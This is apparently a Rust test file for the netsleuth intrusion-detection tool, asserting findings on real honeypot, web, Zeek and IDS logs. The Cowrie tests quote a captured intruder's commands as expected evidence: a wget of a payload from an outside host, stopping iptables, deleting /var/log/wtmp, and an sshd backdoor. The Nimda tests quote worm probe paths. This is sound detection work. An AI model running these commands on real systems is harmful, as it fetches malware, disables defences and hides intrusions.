//! Behaviour findings on real files: the compromise in a Cowrie log comes first and quotes
//! its commands, IIS worm sources are named with their paths and outrank ordinary sources,
//! roles decide the action, business hours stay out of honeypot and web logs, and a
//! two-event source cannot reach the auto-block threshold on statistics alone. Expected
//! values were worked out from the raw files with Python's json module and a regex.

mod real_data;

use std::collections::BTreeSet;
use std::sync::atomic::AtomicBool;

use netsleuth::detection::behaviour::{sessions, Finding, FindingKind, Severity};
use netsleuth::detection::{
    detect, Action, Detection, DetectionSettings, Direction, FloodKind, Role, SourceVerdict,
};
use netsleuth::events::EventTable;

fn run(rel: &str) -> (EventTable, Detection) {
    let (t, report) = real_data::read(rel);
    let mut settings = DetectionSettings {
        cache_dir: None,
        ..DetectionSettings::default()
    };
    settings.features = settings.features.resolve(&[report.format]);
    let d = detect(&t, &settings, &AtomicBool::new(false)).unwrap();
    (t, d)
}

fn ranked(d: &Detection) -> Vec<&SourceVerdict> {
    let mut v: Vec<&SourceVerdict> = d.sources.iter().collect();
    v.sort_by(|a, b| a.priority_cmp(b));
    v
}

fn source<'a>(d: &'a Detection, ip: &str) -> &'a SourceVerdict {
    d.sources
        .iter()
        .find(|s| s.stats.ip.to_string() == ip)
        .unwrap_or_else(|| panic!("no source {ip}"))
}

/// The finding of `kind` of source `s`, if any.
fn finding(s: &SourceVerdict, kind: FindingKind) -> Option<&Finding> {
    s.findings.iter().find(|f| f.kind == kind)
}

fn kinds(s: &SourceVerdict) -> BTreeSet<FindingKind> {
    s.findings.iter().map(|f| f.kind).collect()
}

#[test]
fn the_cowrie_compromise_is_the_first_finding_and_quotes_its_commands() {
    let (_, d) = run("honeypot/cowrie/cowrie.json.2018-05-19");
    let order = ranked(&d);
    let top = order[0];
    assert_eq!(top.stats.ip.to_string(), "111.73.46.18");
    assert_eq!(top.severity(), Some(Severity::Critical));
    assert_eq!(top.action, Action::Block);
    let lead = &top.reasons[0];
    for part in [
        "logged in as root (password `1234`) on the first attempt",
        "ran 15 commands",
        "`wget http://mdb7.cn:8081/exp`",
        "`service iptables stop`",
        "`rm -f /var/log/wtmp`",
    ] {
        assert!(lead.contains(part), "{part} missing from {lead}");
    }
    let k = kinds(top);
    for want in [
        FindingKind::ShellCommands,
        FindingKind::ValidLogin,
        FindingKind::MalwareDownload,
        FindingKind::ImpairDefences,
        FindingKind::IndicatorRemoval,
    ] {
        assert!(k.contains(&want), "{want:?} missing: {k:?}");
    }
    assert!(
        !k.contains(&FindingKind::BruteForce),
        "no failed login at all"
    );
    let download = finding(top, FindingKind::MalwareDownload).unwrap();
    assert_eq!(
        download.evidence,
        [
            "http://mdb7.cn:8081/exp",
            "http://111.73.46.18/xcsyn",
            "http://111.73.46.18/xcudp"
        ]
    );
    assert!(download
        .summary
        .contains("could not fetch http://mdb7.cn:8081/exp"));
    let shell = &top.findings[0];
    assert_eq!(shell.kind, FindingKind::ShellCommands);
    assert_eq!(shell.rows.len(), 15, "one row per command.input");
    assert_eq!(
        shell.evidence[0],
        "ln -sf /usr/sbin/sshd /tmp/su;/tmp/su -oPort=1987"
    );
}

#[test]
fn cowrie_sessions_tell_their_story() {
    let (t, d) = run("honeypot/cowrie/cowrie.json.2018-05-19");
    let story = |ip: &str| sessions(&t, &source(&d, ip).stats.rows);
    let intruder = story("111.73.46.18");
    assert_eq!(intruder.len(), 1);
    let s = &intruder[0];
    assert_eq!(s.id, "abc60b61c358");
    assert_eq!(s.protocol, "ssh");
    assert_eq!(s.client.as_deref(), Some("SSH-2.0-libssh2_1.4.2"));
    assert!(s.failed.is_empty());
    assert_eq!(s.login.as_deref(), Some("root/1234"));
    assert_eq!(s.commands.len(), 15);
    assert_eq!(
        s.commands[..4],
        [
            "ln -sf /usr/sbin/sshd /tmp/su;/tmp/su -oPort=1987",
            "service iptables stop",
            "cd /tmp",
            "wget http://mdb7.cn:8081/exp",
        ]
    );
    // Cowrie also records the redirect to /dev/null as a "download": not a fetched file.
    assert_eq!(s.downloads.len(), 1);
    assert_eq!(s.downloads[0].url, "http://mdb7.cn:8081/exp");
    assert!(s.downloads[0].failed, "cowrie.session.file_download.failed");
    let sentence = s.sentence();
    for part in [
        "logged in as `root/1234`",
        "ran 15 commands",
        "tried to fetch `http://mdb7.cn:8081/exp` (it failed)",
    ] {
        assert!(sentence.contains(part), "{sentence}");
    }
    // 12 sessions, 5 of which logged in or ran commands, 6 failed logins in all.
    let mixed = story("115.75.221.229");
    assert_eq!(mixed.len(), 12);
    assert_eq!(mixed.iter().filter(|s| s.got_in()).count(), 5);
    assert_eq!(mixed.iter().map(|s| s.failed.len()).sum::<usize>(), 6);
    // 74 sessions of one failed login each.
    let guesser = story("185.222.209.108");
    assert_eq!(guesser.len(), 74);
    assert!(guesser.iter().all(|s| !s.got_in() && s.failed.len() == 1));
    assert!(guesser[0].sentence().starts_with("1 failed login (`"));
    let rows: usize = guesser.iter().map(|s| s.rows.len()).sum();
    assert_eq!(rows, source(&d, "185.222.209.108").stats.rows.len());
}

#[test]
fn cowrie_sessions_rank_above_any_volume_of_failed_logins() {
    let (_, d) = run("honeypot/cowrie/cowrie.json.2018-05-19");
    let order = ranked(&d);
    let with_commands: Vec<usize> = (0..order.len())
        .filter(|&i| kinds(order[i]).contains(&FindingKind::ShellCommands))
        .collect();
    // 111.73.46.18, 115.75.221.229, 181.123.9.170 and 222.240.232.170 ran commands.
    assert_eq!(with_commands.len(), 4);
    let guessing_only: Vec<usize> = (0..order.len())
        .filter(|&i| {
            let k = kinds(order[i]);
            k.contains(&FindingKind::BruteForce) && !k.contains(&FindingKind::ValidLogin)
        })
        .collect();
    assert!(!guessing_only.is_empty());
    assert!(with_commands.iter().max() < guessing_only.iter().min());
    // 185.222.209.108 failed 74 times, the most in the file.
    let brute = source(&d, "185.222.209.108");
    let f = finding(brute, FindingKind::BruteForce).unwrap();
    assert!(
        f.summary.starts_with("74 failed logins with "),
        "{}",
        f.summary
    );
    assert_eq!(f.rows.len(), 74);
}

#[test]
fn proxy_use_names_its_destinations() {
    let (_, d) = run("honeypot/cowrie/cowrie.json.2018-05-19");
    let s = source(&d, "195.3.147.49");
    let f = finding(s, FindingKind::ProxyUse).unwrap();
    assert!(
        f.summary.starts_with(
            "tried to use the honeypot as a proxy to 23 hosts on port 80 (48 requests; 2a02:6b8:a::a, "
        ),
        "{}",
        f.summary
    );
    assert_eq!(f.evidence.len(), 20, "capped");
    let login = finding(s, FindingKind::ValidLogin).unwrap();
    assert_eq!(login.evidence, ["root/admin"]);
    assert!(login.summary.contains("(8 logins)"), "{}", login.summary);
}

/// The sources that sent the full 16-request Nimda sequence, from the raw files.
const NIMDA_1: [&str; 9] = [
    "24.215.76.171",
    "67.160.23.219",
    "24.184.248.242",
    "220.184.157.75",
    "193.225.139.8",
    "203.218.203.84",
    "172.137.108.65",
    "80.55.241.98",
    "69.224.37.139",
];
const NIMDA_13: [&str; 11] = [
    "69.107.86.231",
    "24.3.189.27",
    "24.19.174.236",
    "211.170.206.37",
    "68.52.163.51",
    "68.52.252.3",
    "63.189.137.78",
    "220.123.109.66",
    "24.112.83.60",
    "67.121.90.181",
    "24.174.157.55",
];

#[test]
fn nimda_sources_are_named_and_outrank_every_ordinary_source() {
    for (file, nimda) in [
        (
            "web-access-logs/honeynet-redhat71_access_log.1",
            &NIMDA_1[..],
        ),
        (
            "web-access-logs/honeynet-redhat71_access_log.13",
            &NIMDA_13[..],
        ),
    ] {
        let (_, d) = run(file);
        let order = ranked(&d);
        let rank = |ip: &str| order.iter().position(|s| s.stats.ip.to_string() == ip);
        let worst_nimda = nimda.iter().map(|ip| rank(ip).unwrap()).max().unwrap();
        let first_ordinary = order
            .iter()
            .position(|s| s.findings.is_empty())
            .expect("ordinary sources");
        assert!(
            worst_nimda < first_ordinary,
            "{file}: a Nimda source ranks {worst_nimda}, an ordinary one {first_ordinary}"
        );
        for ip in nimda {
            let s = source(&d, ip);
            let worm = finding(s, FindingKind::WormProbe)
                .unwrap_or_else(|| panic!("{file} {ip}: {:?}", s.reasons));
            assert_eq!(worm.rows.len(), 16, "{file} {ip}");
            assert_eq!(worm.evidence.len(), 16, "{file} {ip}: 16 distinct paths");
            assert_eq!(worm.evidence[0], "GET /scripts/root.exe?/c+dir");
            assert!(
                worm.summary.ends_with("(answered 400 ×2, 404 ×14)"),
                "{file} {ip}: {}",
                worm.summary
            );
            assert!(s.reasons[0].starts_with("IIS worm probe (Nimda / Code Red): 16 requests"));
            assert_eq!(s.action, Action::Block);
        }
    }
}

/// Every request of the worm is an anomalous event on every day it came, not only where its
/// statistics stand out (48 of its 176 requests were, all on the last two days). The 176 lines
/// naming cmd.exe or root.exe counted with grep; the plain `GET /` requests are not all
/// flagged.
#[test]
fn every_worm_request_is_an_anomalous_event() {
    let (t, d) = run("web-access-logs/honeynet-redhat71_access_log.13");
    let text = std::fs::read(real_data::data(
        "web-access-logs/honeynet-redhat71_access_log.13",
    ))
    .unwrap();
    let lines: Vec<String> = String::from_utf8_lossy(&text)
        .lines()
        .map(str::to_string)
        .collect();
    let of = |r: usize| &lines[t.line(r) as usize - 1];
    let worm: Vec<usize> = (0..t.len())
        .filter(|&r| of(r).contains("cmd.exe") || of(r).contains("root.exe"))
        .collect();
    assert_eq!(worm.len(), 176);
    assert!(worm
        .iter()
        .all(|&r| d.event_flagged[r] && d.event_score[r] >= 0.6));
    let plain = (0..t.len())
        .filter(|&r| of(r).contains("\"GET / HTTP/1.1\""))
        .collect::<Vec<_>>();
    assert!(
        plain.iter().any(|&r| !d.event_flagged[r]),
        "{}",
        plain.len()
    );
}

#[test]
fn an_empty_success_is_no_sign_of_success() {
    // honeynet-redhat71_access_log.13 line 121: default.ida answered 200 with no body ("-").
    let (_, d) = run("web-access-logs/honeynet-redhat71_access_log.13");
    let s = source(&d, "61.62.154.32");
    assert_eq!(s.findings[0].kind, FindingKind::WormProbe);
    assert_eq!(s.findings[0].severity, Severity::High);
    assert!(
        s.findings[0]
            .summary
            .ends_with("; 1 answered with success but an empty body"),
        "{}",
        s.findings[0].summary
    );
    assert!(d
        .sources
        .iter()
        .flat_map(|s| &s.findings)
        .all(|f| !f.summary.contains("possibly succeeded")));
    // 61.187.233.187 asked the honeypot for http://www.yahoo.com/ 44 times (log.1).
    let (_, d) = run("web-access-logs/honeynet-redhat71_access_log.1");
    let p = source(&d, "61.187.233.187");
    assert_eq!(kinds(p), BTreeSet::from([FindingKind::ProxyUse]));
    assert_eq!(p.findings[0].rows.len(), 44);
}

#[test]
fn internal_hosts_are_isolated_never_blocked() {
    let (_, d) = run("zeek/trickbot_conn.log");
    let infected = source(&d, "172.16.9.233");
    assert_eq!(infected.role, Role::InfectedHost);
    assert_eq!(infected.action, Action::Isolate);
    assert_eq!(infected.direction, None);
    // 172.16.9.5 answers the infected host's DNS, DHCP, Kerberos and LDAP, and itself calls
    // 188 outside hosts on ports 449 and 443 (awk over the file): the domain controller,
    // judged as the workstation it also acts as, and isolated with a warning.
    let dc = source(&d, "172.16.9.5");
    assert_eq!(dc.role, Role::Internal);
    assert_eq!(
        dc.infrastructure.as_deref(),
        Some("DNS resolver, DHCP server, domain controller")
    );
    assert_eq!(dc.action, Action::Isolate);
    assert!(dc
        .reasons
        .iter()
        .any(|r| r.starts_with("Also the network's DNS resolver, DHCP server, domain controller")));
    assert!(!dc.proposed_block);
    assert!(d
        .sources
        .iter()
        .filter(|s| s.role.is_inside())
        .all(|s| !s.proposed_block));
}

#[test]
fn link_local_and_multicast_are_never_proposed() {
    let mut seen = Vec::new();
    for file in [
        "zeek/trickbot_conn.log",
        "zeek/conn_json.log",
        "honeypot/cowrie/cowrie.json.2018-05-19",
        "aws-vpc-flow-logs/vpcflowlogs.log",
    ] {
        let (_, d) = run(file);
        for s in &d.sources {
            if netsleuth::detection::is_unroutable(s.stats.ip) {
                assert_eq!(s.role, Role::Unroutable, "{file} {}", s.stats.ip);
                assert!(!s.proposed_block, "{file} {}", s.stats.ip);
                seen.push(s.stats.ip.to_string());
            }
        }
    }
    // conn_json.log has four connections from fe80::a179:b3ff:199:2314.
    assert_eq!(seen, ["fe80::a179:b3ff:199:2314"]);
}

#[test]
fn business_hours_stay_out_of_web_and_honeypot_logs() {
    for file in [
        "web-access-logs/hackers-access.log",
        "honeypot/cowrie/cowrie.json.2018-05-19",
    ] {
        let (_, d) = run(file);
        for s in &d.sources {
            assert!(s.stats.off_hours_share.is_none(), "{file} {}", s.stats.ip);
            assert!(
                s.reasons.iter().all(|r| !r.contains("business hours")),
                "{file} {}: {:?}",
                s.stats.ip,
                s.reasons
            );
        }
    }
}

#[test]
fn a_two_event_source_stays_below_auto_block_on_statistics_alone() {
    let (_, d) = run("web-access-logs/hackers-access.log");
    let s = source(&d, "115.231.162.216");
    assert_eq!(s.stats.events, 2);
    assert!(s.findings.is_empty());
    assert!(s.confidence < 70.0, "{}", s.confidence);
    for s in d
        .sources
        .iter()
        .filter(|s| s.findings.is_empty() && s.stats.events <= 2)
    {
        assert!(
            !s.proposed_block,
            "{} ({} events)",
            s.stats.ip, s.stats.events
        );
    }
}

#[test]
fn the_trickbot_host_beacons_and_its_command_server_is_proposed() {
    // trickbot_conn.log: 172.16.9.233 opened 155 connections to 24.119.69.70:449, a median
    // 201.6 s apart with no spread (worked out with Python from the ts column).
    let (_, d) = run("zeek/trickbot_conn.log");
    let infected = source(&d, "172.16.9.233");
    let beacon = finding(infected, FindingKind::Beaconing).expect("beaconing");
    assert!(
        beacon.evidence[0].starts_with("24.119.69.70:449: 155 connections every 3 min over "),
        "{:?}",
        beacon.evidence
    );
    assert_eq!(infected.action, Action::Isolate);
    assert!(infected.reasons[0].starts_with("Beaconing: regular connections to "));
    let c2 = source(&d, "24.119.69.70");
    assert_eq!(c2.findings[0].kind, FindingKind::CommandAndControl);
    assert!(c2.findings[0]
        .summary
        .starts_with("internal host 172.16.9.233 beacons to it"));
    assert_eq!(c2.action, Action::Block);
    assert!(c2.proposed_block);
    // Regular polling of multicast name resolution is no beacon.
    assert!(d
        .sources
        .iter()
        .flat_map(|s| &s.findings)
        .all(|f| !f.evidence.iter().any(|e| e.starts_with("224."))));
}

#[test]
fn a_port_scan_is_named_and_browsing_is_no_sweep() {
    // The CIC-IDS2017 improved sample: 172.16.0.1 sent 2,605 flows to 917 distinct ports of
    // 192.168.10.50 (2,500 of them labelled Portscan), worked out with Python's csv module.
    let (_, d) = run("cic-ids2017/cicids2017_improved_sample_mixed.csv");
    let scanner = source(&d, "172.16.0.1");
    let scan = &scanner.findings[0];
    assert_eq!(scan.kind, FindingKind::PortScan);
    assert_eq!(scan.summary, "probed 917 ports of 192.168.10.50");
    assert_eq!(scan.rows.len(), 2605);
    // The bots that sent their controller megabytes got in: they rank first, the scan
    // leads what only tried.
    let tried: Vec<&SourceVerdict> = ranked(&d).into_iter().filter(|s| !s.intruded()).collect();
    assert_eq!(tried[0].stats.ip, scanner.stats.ip);
    assert!(ranked(&d)[0].intruded());
    // The workstations reach dozens of HTTPS servers with successful, data-carrying flows.
    let (_, d) = run("honeypot/suricata/eve.json");
    assert!(d
        .sources
        .iter()
        .flat_map(|s| &s.findings)
        .all(|f| f.kind != FindingKind::HostScan));
}

#[test]
fn ids_alerts_isolate_the_infected_hosts_and_name_their_servers() {
    // eve.json, worked out with Python's json module: 29 "ET MALWARE FormBook CnC Checkin
    // (GET)" alerts from 172.16.0.131 to 19 distinct servers; "ET JA3 Hash - [Abuse.ch]
    // Possible Dridex" 35 times on 172.16.0.149's traffic (28 to 135.148.121.246:8080, 5 to
    // 144.217.88.125:443, 2 to 134.209.156.68) and 39 times on 172.16.0.170's (14 servers);
    // 172.16.0.149 sent 144.217.88.125 1,120,559 bytes in its flow records and received
    // 55,705.
    let (_, d) = run("honeypot/suricata/eve.json");
    let top: Vec<String> = ranked(&d)
        .iter()
        .take(3)
        .map(|s| s.stats.ip.to_string())
        .collect();
    assert_eq!(top, ["172.16.0.131", "172.16.0.149", "172.16.0.170"]);
    for (host, family, alerts) in [
        ("172.16.0.131", "FormBook", 29),
        ("172.16.0.149", "Dridex", 35),
        ("172.16.0.170", "Dridex", 39),
    ] {
        let s = source(&d, host);
        assert_eq!(s.role, Role::InfectedHost, "{host}");
        assert_eq!(s.action, Action::Isolate, "{host}");
        let f = &s.findings[0];
        assert_eq!(f.kind, FindingKind::MalwareTraffic, "{host}");
        assert_eq!(f.rows.len(), alerts, "{host}");
        assert!(
            s.reasons[0].starts_with(&format!("Malware traffic: {family}, {alerts} alerts")),
            "{host}: {}",
            s.reasons[0]
        );
    }
    let formbook = &source(&d, "172.16.0.131").findings[0];
    assert_eq!(formbook.severity, Severity::Critical);
    assert_eq!(formbook.technique, "T1071");
    assert_eq!(
        formbook.evidence.len(),
        20,
        "the signature and the 19 servers"
    );
    assert_eq!(
        formbook.evidence[0],
        "ET MALWARE FormBook CnC Checkin (GET)"
    );
    // The Dridex servers only ever received: they are parties of their own.
    for (server, alerts) in [("135.148.121.246", 28), ("144.217.88.125", 5)] {
        let s = source(&d, server);
        assert!(s.received_only, "{server}");
        assert_eq!(s.role, Role::CommandAndControl, "{server}");
        assert_eq!(s.direction, Some(Direction::Outbound), "{server}");
        assert_eq!(s.action, Action::Block, "{server}");
        let c2 = &s.findings[0];
        assert_eq!(c2.kind, FindingKind::CommandAndControl);
        assert_eq!(c2.rows.len(), alerts);
        assert!(
            c2.summary
                .starts_with(&format!("Dridex server: {alerts} alerts")),
            "{}",
            c2.summary
        );
    }
    let conversation = &source(&d, "135.148.121.246").findings[0].evidence[1];
    assert!(
        conversation.starts_with("172.16.0.149 → 135.148.121.246:8080: 28 connections, "),
        "{conversation}"
    );
    assert!(conversation.contains("TLS without a server name, JA3 51c64c77e60f"));
    let upload = source(&d, "144.217.88.125");
    let received = finding(upload, FindingKind::ReceivedUpload).expect("the upload");
    assert!(
        received.summary.contains("1.1 MB sent, 55.7 KB received"),
        "{}",
        received.summary
    );
    // A policy signature alone is worth knowing, not a compromise; served to a host that
    // then shows Dridex, it names the delivery.
    let exe = source(&d, "64.34.171.228");
    assert_eq!(exe.role, Role::MalwareDelivery);
    assert!(exe.findings[0]
        .summary
        .starts_with("served a program (`ET POLICY PE EXE or DLL Windows file download HTTP`) to 172.16.0.149, which then showed Dridex traffic"));
    let cert = source(&d, "172.16.0.170");
    let policy = cert
        .findings
        .iter()
        .find(|f| f.summary.contains("Self Signed"))
        .expect("the certificate alert");
    assert!(policy.context);
    // The domain controller answers everyone; a decoder alert on another host's flow to it
    // is context, and its busy statistics do not count.
    let dc = source(&d, "172.16.0.52");
    assert_eq!(dc.role, Role::Infrastructure);
    assert!(dc.confidence < 35.0, "{}", dc.confidence);
    assert!(dc.findings.iter().all(|f| f.context && f.technique == "-"));
}

#[test]
fn identical_worm_sources_are_one_campaign() {
    let (_, d) = run("web-access-logs/honeynet-redhat71_access_log.1");
    let nimda = d
        .campaigns
        .iter()
        .find(|c| c.kind == FindingKind::WormProbe)
        .expect("a worm campaign");
    let mut members: Vec<String> = nimda.addresses.iter().map(|a| a.to_string()).collect();
    members.sort();
    let mut expected: Vec<String> = NIMDA_1.iter().map(|s| s.to_string()).collect();
    expected.sort();
    assert_eq!(
        members, expected,
        "the nine full-sequence sources, nothing else"
    );
    assert_eq!(nimda.networks, 9);
    assert_eq!(
        nimda.summary,
        "9 sources from 9 networks with the same IIS worm probe (Nimda / Code Red)"
    );
    // The partial sequences (2 and 3 requests) differ in evidence and stay apart.
    assert!(d.campaigns.iter().all(|c| !c
        .addresses
        .iter()
        .any(|a| a.to_string() == "218.56.138.114")));
}

#[test]
fn detect_folds_a_campaign_into_one_line_and_lists_it_in_json() {
    let out = tempfile::tempdir().unwrap();
    let file = real_data::data("web-access-logs/honeynet-redhat71_access_log.1");
    let run = |json: bool| {
        let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_netsleuth"));
        cmd.arg("detect").arg(&file).arg("--out").arg(out.path());
        if json {
            cmd.arg("--json");
        }
        let o = cmd.env("NETSLEUTH_CACHE_DIR", "").output().unwrap();
        assert!(o.status.success());
        String::from_utf8(o.stdout).unwrap()
    };
    let text = run(false);
    assert!(
        text.contains(
            "+ 8 more with the same IIS worm probe (Nimda / Code Red) (from 9 networks in all): "
        ),
        "{text}"
    );
    assert_eq!(
        text.matches("IIS worm probe (Nimda / Code Red): 16 requests")
            .count(),
        1
    );
    let doc: serde_json::Value = serde_json::from_str(&run(true)).unwrap();
    let c = &doc["campaigns"][0];
    assert_eq!(c["kind"], "worm_probe");
    assert_eq!(c["addresses"].as_array().unwrap().len(), 9);
    assert_eq!(doc["top_sources"][0]["campaign"], 0);
}

fn with_intel(rel: &str) -> Detection {
    let (t, report) = real_data::read(rel);
    let (lists, errors) = netsleuth::detection::behaviour::ThreatLists::load(
        &[real_data::data("threat-intel")],
        netsleuth::ingest::DEFAULT_MAX_LINE_BYTES,
    );
    assert!(errors.is_empty(), "{errors:?}");
    let mut settings = DetectionSettings {
        cache_dir: None,
        intel: Some(std::sync::Arc::new(lists)),
        ..DetectionSettings::default()
    };
    settings.features = settings.features.resolve(&[report.format]);
    detect(&t, &settings, &AtomicBool::new(false)).unwrap()
}

/// Sources whose threat-list finding names `list`.
fn listed(d: &Detection, list: &str) -> usize {
    d.sources
        .iter()
        .filter(|s| {
            s.findings.iter().any(|f| {
                f.kind == FindingKind::ThreatIntel
                    && f.evidence
                        .iter()
                        .any(|e| e.starts_with(&format!("{list}: ")))
            })
        })
        .count()
}

#[test]
fn threat_lists_of_every_published_format_match_like_python_ipaddress() {
    let (lists, _) = netsleuth::detection::behaviour::ThreatLists::load(
        &[real_data::data("threat-intel")],
        netsleuth::ingest::DEFAULT_MAX_LINE_BYTES,
    );
    let mut counts = lists.lists.clone();
    counts.sort();
    // Entries per file, counted with Python (the README in the folder holds none).
    assert_eq!(
        counts,
        [
            ("alienvault_reputation".to_string(), 54_521),
            ("banlist".to_string(), 12_113),
            ("blocklist_de_ssh".to_string(), 4_927),
            ("drop".to_string(), 830),
            ("edrop".to_string(), 132),
            ("firehol_level1".to_string(), 6_559),
            ("greensnow".to_string(), 3_747),
        ]
    );
    // Cowrie 2018-05-19's 58 sources, matched with Python's ipaddress.
    let d = with_intel("honeypot/cowrie/cowrie.json.2018-05-19");
    for (list, n) in [
        ("firehol_level1", 2),
        ("blocklist_de_ssh", 28),
        ("greensnow", 19),
        ("alienvault_reputation", 24),
        ("drop", 1),
        ("edrop", 0),
        ("banlist", 20),
    ] {
        assert_eq!(listed(&d, list), n, "{list}");
    }
    let s = source(&d, "206.189.233.139");
    let f = finding(s, FindingKind::ThreatIntel).unwrap();
    assert!(
        f.evidence
            .contains(&"drop: 206.189.0.0/16 SBL205399 (line 788)".to_string()),
        "{:?}",
        f.evidence
    );
    let top = source(&d, "111.73.46.18");
    assert!(top
        .reasons
        .iter()
        .any(|r| r.contains("alienvault_reputation: 111.73.46.18 (line 20668)")));
    // hackers-access.log: only CIDR entries match (Spamhaus 9 and 3, FireHOL level1 13).
    let d = with_intel("web-access-logs/hackers-access.log");
    assert_eq!(listed(&d, "drop"), 9);
    assert_eq!(listed(&d, "edrop"), 3);
    assert_eq!(listed(&d, "firehol_level1"), 13);
    // Level1 lists the private ranges: internal hosts are never matched.
    let d = with_intel("zeek/trickbot_conn.log");
    assert_eq!(
        listed(&d, "firehol_level1"),
        0,
        "its two public matches never originate"
    );
    assert!(source(&d, "172.16.9.233")
        .findings
        .iter()
        .all(|f| f.kind != FindingKind::ThreatIntel));
}

#[test]
fn a_source_shows_the_top_values_of_its_own_log() {
    let (t, d) = run("honeypot/cowrie/cowrie.json.2018-05-19");
    let s = source(&d, "111.73.46.18");
    let v = netsleuth::features::field_values(&t, &s.stats.rows, 5);
    let field = |name: &str| {
        v.iter()
            .find(|f| f.field == name)
            .unwrap_or_else(|| panic!("{name}"))
    };
    // Its 54 events by eventid, worked out from the raw file.
    let events = field("event types");
    assert_eq!(events.distinct, 10);
    assert_eq!(
        events.top[..3],
        [
            ("cowrie.log.open".to_string(), 15),
            ("cowrie.command.input".to_string(), 15),
            ("cowrie.log.closed".to_string(), 14),
        ]
    );
    assert_eq!(field("usernames").top, [("root".to_string(), 1)]);
    assert_eq!(field("passwords").top, [("1234".to_string(), 1)]);
    assert_eq!(field("destination ports").top, [("2222".to_string(), 54)]);
    assert!(field("URLs")
        .top
        .iter()
        .any(|(u, _)| u == "http://mdb7.cn:8081/exp"));
    // A web source: its requests and status codes.
    let (t, d) = run("web-access-logs/honeynet-redhat71_access_log.1");
    let s = source(&d, "24.215.76.171");
    let v = netsleuth::features::field_values(&t, &s.stats.rows, 5);
    let codes = v.iter().find(|f| f.field == "status codes").unwrap();
    assert_eq!(codes.top, [("404".to_string(), 14), ("400".to_string(), 2)]);
    let requests = v.iter().find(|f| f.field == "requests").unwrap();
    assert_eq!(requests.distinct, 16);
    assert_eq!(requests.top[0].0, "GET /scripts/root.exe?/c+dir HTTP/1.0");
}

#[test]
fn return_flows_make_a_server_not_a_suspect() {
    // vpcflowlogs.log: all 13 flows from 52.46.150.99 leave port 443 for the instance's
    // client ports (awk over the raw file): HTTPS answers, not probes of 13 ports.
    let (_, d) = run("aws-vpc-flow-logs/vpcflowlogs.log");
    let s = source(&d, "52.46.150.99");
    assert_eq!(s.stats.events, 13);
    assert_eq!(s.role, Role::Server);
    assert!(s.findings.is_empty());
    assert!(!s.proposed_block);
    // Servers are not blamed for the failures of the clients they answered.
    let (_, d) = run("honeypot/suricata/eve.json");
    for s in d.sources.iter().filter(|s| s.role == Role::Server) {
        assert!(
            s.reasons
                .iter()
                .all(|r| !r.contains("failed or were refused")),
            "{}: {:?}",
            s.stats.ip,
            s.reasons
        );
    }
}

#[test]
fn data_leaving_the_network_is_named_with_its_bytes() {
    // CIC-IDS2017's infiltration and botnet, worked out with Python from the file:
    // 192.168.10.8 sent 14,071,068 bytes to 205.174.165.73 (ports 444 and 8080, 149 flows)
    // and received 16,491; 192.168.10.25 sent it 12,916,626 over 4 flows and received
    // 148,369; the bots 192.168.10.9 and .15 sent their controller 1,475,894 and 1,312,504
    // (.5 and .14 stay under a megabyte). No benign host sends any external one more than
    // 311,054 bytes.
    let (_, d) = run("cic-ids2017/cicids2017_improved_sample_mixed.csv");
    let f = finding(source(&d, "192.168.10.8"), FindingKind::Exfiltration).expect("upload");
    assert_eq!(f.evidence, ["205.174.165.73"]);
    assert_eq!(f.rows.len(), 149);
    for part in [
        "sent 14.1 MB to external host 205.174.165.73 (ports 444, 8080)",
        "received 16.5 KB",
    ] {
        assert!(f.summary.contains(part), "{}", f.summary);
    }
    let f = finding(source(&d, "192.168.10.25"), FindingKind::Exfiltration).expect("upload");
    assert!(f.summary.contains("sent 12.9 MB"), "{}", f.summary);
    let uploaders: BTreeSet<String> = d
        .sources
        .iter()
        .filter(|s| finding(s, FindingKind::Exfiltration).is_some())
        .map(|s| s.stats.ip.to_string())
        .collect();
    let expected = [
        "192.168.10.15",
        "192.168.10.25",
        "192.168.10.8",
        "192.168.10.9",
    ];
    assert_eq!(uploaders, expected.iter().map(|s| s.to_string()).collect());
    for ip in expected {
        let f = finding(source(&d, ip), FindingKind::Exfiltration).unwrap();
        assert_eq!(f.evidence, ["205.174.165.73"], "{ip}");
    }
    for s in &d.sources {
        assert!(finding(s, FindingKind::Flood).is_none(), "{}", s.stats.ip);
    }
}

#[test]
fn a_mirai_flood_and_its_long_command_channel() {
    // IoT-23 44-1: the one DDoS flow sent 1,744,830,458 bytes to 86.136.151.56:80 in 300.8 s
    // with nothing back; the C&C flow to 46.101.251.172:23 stayed open 6,803 s.
    let (_, d) = run("iot-23/CTU-Malware-Capture-44-1-labeled.csv");
    let bot = source(&d, "192.168.1.199");
    let flood = finding(bot, FindingKind::Flood).expect("flood");
    assert_eq!(flood.evidence, ["86.136.151.56"]);
    assert_eq!(flood.rows.len(), 1);
    assert!(
        flood.summary.starts_with(
            "sent 1.7 GB to 86.136.151.56 (port 80) in 1 connection at 5.8 MB/s, with 0 B back"
        ),
        "{}",
        flood.summary
    );
    let long = finding(bot, FindingKind::LongConnection).expect("long connection");
    assert_eq!(long.evidence, ["46.101.251.172"]);
    assert!(
        long.summary
            .starts_with("held a connection to 46.101.251.172 (port 23) open for up to 1.9 h"),
        "{}",
        long.summary
    );
    assert_eq!(bot.action, Action::Isolate);
    assert!(
        finding(bot, FindingKind::Exfiltration).is_none(),
        "a flood is no upload"
    );
}

#[test]
fn a_port_scan_of_the_sensor_itself_is_named() {
    // Dionaea's MHN export names the destination port and not the address. Counted with
    // Python: 72.226.28.47 tried 468 distinct ports, 51.15.190.16 40; no other source 25.
    let (_, d) = run("honeypot/dionaea/dionaea_mhn_export.json");
    let scanners: BTreeSet<String> = d
        .sources
        .iter()
        .filter(|s| finding(s, FindingKind::PortScan).is_some())
        .map(|s| s.stats.ip.to_string())
        .collect();
    assert_eq!(
        scanners,
        BTreeSet::from(["51.15.190.16".to_string(), "72.226.28.47".to_string()])
    );
    let f = finding(source(&d, "72.226.28.47"), FindingKind::PortScan).unwrap();
    assert!(
        f.summary
            .starts_with("probed 468 ports of the host that wrote this log"),
        "{}",
        f.summary
    );
    assert_eq!(f.rows.len(), 516);
    assert_eq!(f.evidence[..4], ["1", "3", "4", "9"]);
}

#[test]
fn form_bots_on_hackers_access_are_named_before_any_statistic() {
    // Counted from the raw file with a regex: per address, POSTs to /join_form and to login
    // paths, each against the same address's last GET of that path (second resolution).
    let (_, d) = run("web-access-logs/hackers-access.log");
    let with = |k| d.sources.iter().filter(|s| finding(s, k).is_some()).count();
    assert_eq!(with(FindingKind::ScriptedSignup), 343);
    assert_eq!(with(FindingKind::BruteForce), 68);
    assert_eq!(with(FindingKind::AgentRotation), 28);
